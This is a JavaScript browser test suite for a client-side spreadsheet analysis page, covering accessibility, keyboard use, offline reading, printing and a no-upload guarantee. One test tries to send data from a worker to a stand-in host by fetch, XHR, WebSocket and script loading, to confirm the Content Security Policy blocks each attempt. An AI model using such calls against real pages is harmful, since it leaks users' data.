// An analysis without a mouse, by ear, on a phone, on paper, and with nothing sent anywhere.

import assert from "node:assert/strict";
import { test } from "./support/site.mjs";
import { fixture, figures, look, read, sample } from "./support/files.mjs";

const overflows = (page) =>
  page.evaluate(() => document.scrollingElement.scrollWidth > document.scrollingElement.clientWidth);

for (const [theme, locale, width] of [
  ["light", "fr-FR", 360],
  ["dark", "en-GB", 1280],
]) {
  test(
    `every step is accessible and fits, ${theme}, ${locale}, ${width} px`,
    { colorScheme: theme, locale, viewport: { width, height: 800 } },
    async (visit) => {
      const { open, page, violations } = visit;
      const assertWell = async (step) => {
        assert.deepEqual(await violations(), [], step);
        assert.equal(await overflows(page), false, `${step} scrolls sideways`);
      };
      await open("#/analyse");
      await assertWell("drop");
      await visit.drop("[data-testid=drop-zone]", [fixture("empty.csv")]);
      await page.getByTestId("file-error").waitFor();
      await assertWell("trouble");
      await look(visit, sample("tickets.csv"));
      await assertWell("columns");
      await read(page);
      await assertWell("report");
      await page.getByTestId("left-out").locator("summary").first().click();
      await assertWell("report, all open");
    },
  );
}

test("from the first stop to the figures without a mouse", async ({ open, page }) => {
  // Asked for early: a key that is pressed does not wait until the browser hands its dialogs over.
  const chooser = new Promise((resolve) => page.once("filechooser", resolve));
  await open("#/analyse");
  const tabTo = async (testid) => {
    for (let presses = 0; presses < 120; presses += 1) {
      if (await page.evaluate((id) => document.activeElement.dataset.testid === id, testid)) return;
      await page.keyboard.press("Tab");
    }
    throw new Error(`${testid} is not reached`);
  };
  await tabTo("choose-file");
  await page.keyboard.press("Enter");
  const { name, bytes } = fixture("excel-fr.csv");
  await (await chooser).setFiles({ name, mimeType: "text/csv", buffer: bytes });
  await page.locator("[data-testid=step-columns] h1:focus").waitFor();
  await tabTo("rows");
  await tabTo("role-6");
  await page.keyboard.press("Home");
  await page.waitForFunction(() => document.activeElement.value === "");
  await tabTo("read");
  await page.keyboard.press("Enter");
  await page.locator("[data-testid=step-report] h1:focus").waitFor();
  assert.equal(await page.getByTestId("card-csat").count(), 0);
  await tabTo("open-nps");
  await page.keyboard.press("Enter");
  await page.locator("[data-kpi-page=nps]").waitFor();
});

test("a file is never sent: the readers' own files are all that is fetched", async (visit) => {
  const { open, kept, page, mark, requestsSince } = visit;
  await open("#/analyse");
  // The service worker is through with fetching the site's own files; the reader of texts came with the analysis.
  await kept();
  await page.waitForLoadState("networkidle");
  const loaded = mark();
  for (const name of ["excel-fr.csv", "tickets.xlsx"]) {
    await visit.drop("main", [fixture(name)]);
    await page.locator(".lead", { hasText: name }).waitFor();
    await read(page);
  }
  const asked = requestsSince(loaded).filter(({ url }) => !url.startsWith("blob:"));
  const kinds = asked.map(
    ({ method, url }) =>
      `${method} ${new URL(url).pathname
        .split("/")
        .pop()
        .replace(/\W[\w-]*\.|_bg\./, ".")}`,
  );
  assert.deepEqual(kinds.sort(), ["GET spreadsheet.js", "GET spreadsheet.wasm"]);
});

test("with the network cut, files are read and read again", async (visit) => {
  const { open, kept, page, context } = visit;
  await open("#/analyse");
  await kept();
  await look(visit, { name: "first.csv", bytes: "nps\n9\n3\n" });
  await page.waitForLoadState("networkidle");
  await context.setOffline(true);
  await read(page);
  assert.deepEqual(await figures(page), { "nps score": 0 });
  await page.getByTestId("change-columns").click();
  await page.locator("#setting-delimiter").selectOption({ index: 1 });
  await page.waitForFunction(() => !document.querySelector("[data-testid=read]").disabled);
  await read(page);
  assert.deepEqual(await figures(page), { "nps score": 0 });
});

test("a reader that holds figures cannot send them anywhere", async (visit) => {
  const { open, page, allow } = visit;
  allow(/Content Security Policy|violates the following|requires .Trusted/);
  await open("#/analyse");
  for (const name of ["excel-fr.csv", "tickets.xlsx"]) {
    await visit.drop("main", [fixture(name)]);
    await page.locator(".lead", { hasText: name }).waitFor();
    await read(page);
    const [reader] = page.workers();
    const refused = await reader.evaluate(async () => {
      const elsewhere = "https://elsewhere.invalid";
      const attempts = {
        fetch: () => fetch(`${elsewhere}/fetch`, { method: "POST", body: "9" }).catch(() => {}),
        request: () => {
          const request = new XMLHttpRequest();
          request.open("POST", `${elsewhere}/request`);
          try {
            request.send("9");
          } catch {
            /* refused */
          }
        },
        socket: () => {
          try {
            new WebSocket(`wss://elsewhere.invalid/socket`);
          } catch {
            /* refused */
          }
        },
        script: () => import(`${elsewhere}/script`).catch(() => {}),
        code: () => {
          try {
            importScripts(`${elsewhere}/script`);
          } catch {
            /* refused */
          }
        },
      };
      const refused = [];
      for (const [name, attempt] of Object.entries(attempts)) {
        const heard = new Promise((resolve) => addEventListener("securitypolicyviolation", resolve, { once: true }));
        attempt();
        refused.push(`${name}: ${(await heard).effectiveDirective.replace("-elem", "")}`);
      }
      return refused;
    });
    assert.deepEqual(
      refused,
      [
        "fetch: connect-src",
        "request: connect-src",
        "socket: connect-src",
        "script: script-src",
        "code: require-trusted-types-for",
      ],
      name,
    );
  }
});

test("the report on paper has its figures and none of its buttons", async (visit) => {
  const { open, page } = visit;
  await open("#/analyse");
  await look(visit, fixture("excel-fr.csv"));
  await read(page);
  await page.emulateMedia({ media: "print" });
  assert.ok(await page.getByTestId("card-nps").locator("output").first().isVisible());
  for (const hidden of ["another-file", "change-columns"]) {
    assert.equal(await page.getByTestId(hidden).isVisible(), false, hidden);
  }
});
